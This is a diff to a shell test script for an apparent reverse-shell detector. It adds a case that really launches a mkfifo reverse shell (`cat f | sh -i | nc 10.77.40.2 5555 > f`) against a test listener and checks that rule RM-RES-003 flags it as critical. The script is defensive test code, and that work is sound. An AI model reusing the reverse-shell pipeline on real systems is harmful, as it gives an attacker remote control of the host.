@@ -12,7 +12,8 @@
 #     RM-RES-001 high with its pid, listen address and peer;
 # (b) a reverse shell started from /tmp: /bin/sh whose stdin/stdout are a
 #     socket connected to 10.77.40.2:4444: RM-RES-003 critical naming the
-#     shell's pid and the peer;
+#     shell's pid and the peer; and the mkfifo form (`cat f | sh -i | nc
+#     10.77.40.2 5555 > f`): RM-RES-003 critical on the sh, naming the nc;
 # (d) negatives: `ssh -D 1080 admin@10.77.40.2` on a terminal (at most
 #     low), and the packaged nginx (/usr/sbin/nginx, its own -c config)
 #     listening on 10.77.40.1:8080 while forwarding a request to an app at
@@ -110,6 +111,22 @@ wait_ready shell
 SHELLPID=${READY[1]}
 wait_exe "$SHELLPID" /usr/bin/dash
 
+# (b2) the mkfifo form: sh -i between a fifo and an nc that holds the
+# connection (the "nc" is the helper's netcat mode, copied under that name)
+cp "$HELPERS/relay" "$RD/nc"
+bg lis2 "${IN[@]}" "$HELPERS/relay" hold 10.77.40.2 5555
+wait_ready lis2
+bg fifo "${IN[@]}" bash -c 'rm -f "$0/f"; mkfifo "$0/f"; cat "$0/f" | /bin/sh -i 2>&1 | "$0/nc" pipe 10.77.40.2 5555 >"$0/f"' "$RD"
+FIFOBASH=$BG_PID
+FSH= FNC=
+for _ in $(seq 200); do
+	FSH=$(ps -e -o pid=,ppid=,comm= | awk -v p="$FIFOBASH" '$2 == p && $3 == "sh" { print $1 }')
+	FNC=$(ps -e -o pid=,ppid=,comm= | awk -v p="$FIFOBASH" '$2 == p && $3 == "nc" { print $1 }')
+	[ -n "$FSH" ] && [ -n "$FNC" ] && grep -q '^ready' "$T/fifo.err" 2>/dev/null && break
+	sleep 0.05
+done
+[ -n "$FSH" ] && [ -n "$FNC" ] || fail "the mkfifo pipeline did not start: $(cat "$T/fifo.err")"
+
 # (d) the administrator's ssh -D on a terminal (ssh waits for a banner
 # from a peer that never sends one)
 SSHPID=
@@ -192,6 +209,10 @@ expect_finding "$L" RM-RES-003 "$SHELLPID" critical
 f_eq .evidence.peer 10.77.40.2:4444
 f_eq .process.name sh
 no_finding "$L" RM-RES-003 "$PROXY"
+expect_finding "$L" RM-RES-003 "$FSH" critical
+f_eq .evidence.peer 10.77.40.2:5555
+f_eq .evidence.relay_pid "$FNC"
+no_finding "$L" RM-RES-003 "$FNC"
 
 # (d) negatives
 if [ -n "$SSHPID" ]; then
